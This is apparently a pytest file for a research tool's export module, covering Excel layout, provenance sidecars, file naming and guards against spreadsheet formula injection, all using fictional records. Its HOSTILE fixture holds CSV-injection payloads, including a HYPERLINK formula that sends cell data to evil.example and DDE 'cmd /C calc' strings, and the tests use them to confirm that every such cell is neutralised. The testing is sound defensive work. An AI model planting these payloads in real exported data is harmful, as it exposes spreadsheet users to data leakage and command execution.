"""Issue 8, exports: no spreadsheet formula ever runs (CSV and XLSX), Excel a researcher can
use (frozen header, filter, widths, a column per confidence and evidence), provenance in
every format, dated file names with the filter, selected rows, citations columns.

Fictional records only; every file is read back with the tool its users read it with.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from factories import Record, make_records, write_store

from kea.cli import main
from pipeline import export, query
from pipeline.query import StudyFilter
from pipeline.records import Author
from pipeline.store import Store

ALL = StudyFilter(scope="all")
# (field, hostile value): OWASP's CSV-injection triggers = + - @ tab CR
HOSTILE = [
    ("title", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("title", "=cmd|' /C calc'!A0"),
    ("journal", "+1+cmd|' /C calc'!A0"),
    ("title", "-2+3+cmd|' /C calc'!A0"),
    ("title", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("title", "\t=1+1 tab first"),
    ("journal", "\r=1+1 carriage return first"),
]
FIRST_AUTHOR = "@SUM(1+1)"


@pytest.fixture(scope="module")
def records() -> list[Record]:
    recs = make_records(30, 21, labelled=1.0, deleted=0.0)
    for rec, (field, value) in zip(recs, HOSTILE, strict=False):
        rec.article = dataclasses.replace(rec.article, **{field: value})
    hostile_author = Author(collective_name=FIRST_AUTHOR)
    recs[10].article = dataclasses.replace(recs[10].article, authors=[hostile_author])
    return recs


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory, records: list[Record]) -> Path:
    return write_store(tmp_path_factory.mktemp("t") / "kea.sqlite", records)


@pytest.fixture(scope="module")
def conn(db: Path):
    c = query.connect(db)
    yield c
    c.close()


def _hostile_cells(records: list[Record]) -> dict[str, dict[str, str]]:
    """pmid -> column -> the hostile text stored for it."""
    out: dict[str, dict[str, str]] = {}
    for rec, (field, value) in zip(records, HOSTILE, strict=False):
        out.setdefault(rec.article.pmid, {})[field] = value
    out.setdefault(records[10].article.pmid, {})["authors"] = FIRST_AUTHOR
    return out


# -- formula injection ----------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralise_prefixes_every_trigger(value):
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["ketamine", "", " =1", "1-2", 5, 0.5, None, True])
def test_neutralise_leaves_other_cells(value):
    assert export.neutralise(value) == value


def test_csv_never_starts_a_cell_with_a_formula(conn, records):
    text = export.export_bytes(conn, "csv", ALL).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(records)
    by = {r["pmid"]: r for r in rows}
    hostile = _hostile_cells(records)
    for pmid, cells in hostile.items():
        for col, value in cells.items():
            assert by[pmid][col] == "'" + value, (pmid, col)
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(export.FORMULA_TRIGGERS), (col, cell)


def test_csv_text_of_any_table_is_guarded():
    text = export.csv_text([{"title": "=1+1", "n": 3, "tags": ["-x", "y"]}])
    assert list(csv.reader(io.StringIO(text))) == [["title", "n", "tags"], ["'=1+1", "3", "'-x; y"]]


def test_xlsx_cells_are_text_never_formulas(conn, records):
    data = export.export_bytes(conn, "xlsx", ALL)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    ws = openpyxl.load_workbook(io.BytesIO(data))["Studies"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    hostile = _hostile_cells(records)
    seen = 0
    for row in ws.iter_rows(min_row=2):
        pmid = str(row[col["pmid"]].value)
        for name, value in hostile.get(pmid, {}).items():
            cell = row[col[name]]
            assert cell.value == value.replace("\r", "") or cell.value == value
            assert cell.data_type == "s" and cell.quotePrefix is True, (pmid, name)
            seen += 1
        for cell in row:
            assert cell.data_type != "f"
    assert seen == len(HOSTILE) + 1


# -- Excel for researchers ------------------------------------------------------------------------
def test_xlsx_frozen_header_filter_widths_and_confidence_columns(conn, records):
    wb = openpyxl.load_workbook(io.BytesIO(export.export_bytes(conn, "xlsx", ALL)))
    ws = wb["Studies"]
    assert ws.freeze_panes == "C2"
    header = [c.value for c in ws[1]]
    last = openpyxl.utils.get_column_letter(len(header))
    assert ws.auto_filter.ref == f"A1:{last}{len(records) + 1}"
    assert ws[1][0].font.bold
    widths = {
        name: ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width
        for i, name in enumerate(header)
    }
    assert widths["title"] >= 50 and widths["pmid"] < 15 and widths["abstract"] >= 60
    assert "confidence" not in header
    for name in ("relevance", "conditions", "design", "outcome", "comparator", "psychotherapy"):
        assert f"confidence_{name}" in header and f"evidence_{name}" in header
    assert {"comparator", "psychotherapy", "pubmed_url", "verified_by"} <= set(header)
    by = {str(r[header.index("pmid")]): r for r in ws.iter_rows(min_row=2, values_only=True)}
    for rec in records:
        row = dict(zip(header, by[rec.article.pmid], strict=True))
        verified = "design" in rec.labels.get("verified", [])
        assert row["confidence_relevance"] == rec.labels["confidence"]["relevance"]
        assert isinstance(row["confidence_relevance"], float)
        if verified:
            assert row["confidence_design"] == 1.0
            assert row["evidence_design"] is None  # never the model's sentence
            assert row["verified_by"].startswith("design: ")
        else:
            assert row["confidence_design"] == rec.labels["confidence"]["design"]
            assert row["evidence_design"] == "made-up sentence"
        assert row["comparator"] == rec.labels["comparator"]
        assert bool(row["psychotherapy"]) is bool(rec.labels["psychotherapy"])
        assert row["pubmed_url"] == f"https://pubmed.ncbi.nlm.nih.gov/{rec.article.pmid}/"
    assert sum("design" in r.labels.get("verified", []) for r in records) == 3


def test_about_sheet_names_the_model_from_the_labels(tmp_path, records):
    """Defect: 'model version: not classified' although a model made every label."""
    db = write_store(tmp_path / "k.sqlite", records[:5])
    with Store(db) as store:
        store.set_meta("model_version", None)  # `kea classify` never wrote this meta key
    conn = query.connect(db)
    wb = openpyxl.load_workbook(io.BytesIO(export.export_bytes(conn, "xlsx", ALL)))
    about = {row[0]: row[1] for row in wb["About"].iter_rows(min_row=2, values_only=True)}
    assert about["model_version"] == "factory-1"
    assert about["record_count"] == "5" and about["kea_version"]
    assert about["exported_at"].startswith(str(datetime.now(UTC).year))
    conn.close()


# -- provenance beside every format ---------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "jsonl", "ris", "bibtex", "csljson"])
def test_kea_export_writes_the_about_sidecar(fmt, db, tmp_path, records, capsys):
    out = tmp_path / f"ptsd.{export.FORMATS[fmt].extension}"
    argv = ["export", "--format", fmt, "--db", str(db), "--out", str(out), "--condition", "ptsd"]
    assert main(argv) == 0
    about = json.loads(Path(str(out) + ".about.json").read_text())
    want = query.count_studies(query.connect(db), StudyFilter(conditions=("ptsd",)))
    assert about["record_count"] == want > 0
    assert about["filter"] == "conditions=ptsd"
    assert about["model_version"] == "factory-1" and about["model_versions"] == ["factory-1"]
    assert about["evidence_as_of"] == "2025-11-24T16:00:00Z"
    assert about["query"] == "ketamine[tiab] (fictional factory query)"
    assert about["format"] == fmt and about["file"] == out.name
    assert "NCBI" in about["source"] and about["kea_version"]
    assert f"{out.name}.about.json" in capsys.readouterr().err


def test_kea_export_into_a_folder_names_the_file(db, tmp_path, capsys):
    folder = tmp_path / "out"
    folder.mkdir()
    argv = ["export", "--format", "csv", "--db", str(db), "--out", str(folder)]
    assert main([*argv, "--condition", "ptsd", "--design", "rct"]) == 0
    today = date.today().isoformat()
    name = f"kea-ptsd-rct-{today}.csv"
    assert sorted(p.name for p in folder.iterdir()) == [name, name + ".about.json"]
    assert pd.read_csv(folder / name).shape[0] > 0
    assert main(["export", "--format", "xlsx", "--db", str(db), "--out", str(folder)]) == 0
    # no label filter: every stored record (scope all), named so
    assert (folder / f"kea-all-{today}.xlsx").exists()
    assert not (folder / f"kea-all-{today}.xlsx.about.json").exists()  # its About sheet is it
    assert str(folder / name) in capsys.readouterr().err


def test_stdout_export_writes_no_sidecar(db, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["export", "--format", "csv", "--db", str(db)]) == 0
    assert capsys.readouterr().out.startswith("pmid,")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("f", "fmt", "name"),
    [
        (StudyFilter(conditions=("ptsd",), designs=("rct",)), "csv", "kea-ptsd-rct-2026-12-04.csv"),
        (StudyFilter(), "xlsx", "kea-2026-12-04.xlsx"),
        (
            StudyFilter(designs=("systematic_review",)),
            "bibtex",
            "kea-systematic-review-2026-12-04.bib",
        ),
        (
            StudyFilter(conditions=("depression",), subgroups=("trd",), year_from=2018),
            "jsonl",
            "kea-depression-trd-from-2018-2026-12-04.jsonl",
        ),
        (
            StudyFilter(psychotherapy=True, year_from=2015, year_to=2020),
            "ris",
            "kea-psychotherapy-2015-2020-2026-12-04.ris",
        ),
        (
            StudyFilter(scope="all", search='ketamine "hours" / ../x'),
            "csljson",
            "kea-search-ketamine-hours-x-all-2026-12-04.json",
        ),
    ],
)
def test_export_filename(f, fmt, name):
    assert export.export_filename(f, fmt, date(2026, 12, 4)) == name


def test_export_filename_stays_short_and_distinct():
    many = StudyFilter(
        subgroups=("trd", "bipolar", "suicidality", "perinatal", "ocd"),
        designs=("rct", "systematic_review", "nonrandomized_trial", "observational"),
        search="x" * 300,
    )
    other = dataclasses.replace(many, search="y" * 300)
    a = export.export_filename(many, "csv", date(2026, 12, 4))
    b = export.export_filename(other, "csv", date(2026, 12, 4))
    assert a != b and len(a) < 120 and a.endswith("-2026-12-04.csv")
    assert set(a) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
    assert (
        export.export_filename(StudyFilter(), "csv", date(2026, 12, 4), selected=3)
        == "kea-selected-3-2026-12-04.csv"
    )


def test_dashboard_download_is_a_zip_with_about(conn, records):
    now = datetime(2026, 12, 4, 8, 0, tzinfo=UTC)
    got = export.export_download(
        conn, "csv", StudyFilter(conditions=("ptsd",)), today=date(2026, 12, 4), now=now
    )
    assert got.name == "kea-ptsd-2026-12-04.zip" and got.mime == "application/zip"
    with zipfile.ZipFile(io.BytesIO(got.data)) as zf:
        assert zf.namelist() == ["kea-ptsd-2026-12-04.csv", "kea-ptsd-2026-12-04.csv.about.json"]
        table = pd.read_csv(zf.open("kea-ptsd-2026-12-04.csv"))
        about = json.loads(zf.read("kea-ptsd-2026-12-04.csv.about.json"))
    assert about["record_count"] == len(table) > 0
    assert about["exported_at"] == "2026-12-04T08:00:00Z" and about["filter"] == "conditions=ptsd"
    xlsx = export.export_download(conn, "xlsx", ALL, today=date(2026, 12, 4))
    assert xlsx.name == "kea-all-2026-12-04.xlsx"
    assert openpyxl.load_workbook(io.BytesIO(xlsx.data)).sheetnames == ["Studies", "About"]


def test_selected_rows_only(conn, records):
    picked = [records[5].article.pmid, records[2].article.pmid, "not-a-pmid"]
    rows = [json.loads(x) for x in export.export_bytes(conn, "jsonl", ALL, picked).splitlines()]
    assert {r["pmid"] for r in rows} == set(picked[:2])
    got = export.export_download(conn, "jsonl", ALL, picked, today=date(2026, 12, 4))
    assert got.name == "kea-all-selected-3-2026-12-04.zip"
    with zipfile.ZipFile(io.BytesIO(got.data)) as zf:
        about = json.loads(zf.read("kea-all-selected-3-2026-12-04.jsonl.about.json"))
    assert about["record_count"] == 2 and sorted(about["selected_pmids"]) == sorted(picked[:2])
    wb = openpyxl.load_workbook(io.BytesIO(export.export_bytes(conn, "xlsx", ALL, picked)))
    assert wb["Studies"].max_row == 3


def test_kea_classify_then_export_names_the_model(tmp_path):
    """Defect 4 end to end: after `kea classify`, the About sheet and the sidecar name the
    model that made the labels (it was "not classified")."""
    db = tmp_path / "kea.sqlite"
    arts = [
        dataclasses.replace(r.article, title=f"Ketamine infusion for invented depression {i}")
        for i, r in enumerate(make_records(3, 5, labelled=0.0, deleted=0.0))
    ]
    with Store(db) as store:
        store.upsert_batch(arts)
    assert main(["classify", "--db", str(db)]) == 0
    with Store(db, readonly=True) as store:
        made_by = {store.get_labels(a.pmid)["model_version"] for a in arts}
    assert len(made_by) == 1 and None not in made_by
    out = tmp_path / "all.xlsx"
    assert main(["export", "--format", "xlsx", "--db", str(db), "--out", str(out), "--all"]) == 0
    wb = openpyxl.load_workbook(out)
    about = {row[0]: row[1] for row in wb["About"].iter_rows(min_row=2, values_only=True)}
    assert about["model_version"] == made_by.pop() != "not classified"
    csv_out = tmp_path / "all.csv"
    assert main(["export", "--format", "csv", "--db", str(db), "--out", str(csv_out), "--all"]) == 0
    sidecar = json.loads(Path(str(csv_out) + ".about.json").read_text())
    assert sidecar["model_version"] == about["model_version"]


def test_failed_xlsx_export_leaves_no_temporary_sheet_files(conn, tmp_path, monkeypatch):
    """A write-only workbook streams each sheet to a temporary file that openpyxl deletes
    only on a successful save; an export failing mid-rows must not leave them behind."""
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    calls = {"n": 0}
    real = export.flat_row

    def failing(rec):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("disk full")
        return real(rec)

    monkeypatch.setattr(export, "flat_row", failing)
    with pytest.raises(OSError, match="disk full"):
        export.export_bytes(conn, "xlsx", ALL)
    assert calls["n"] == 3
    assert list(tmp_path.glob("openpyxl.*")) == []
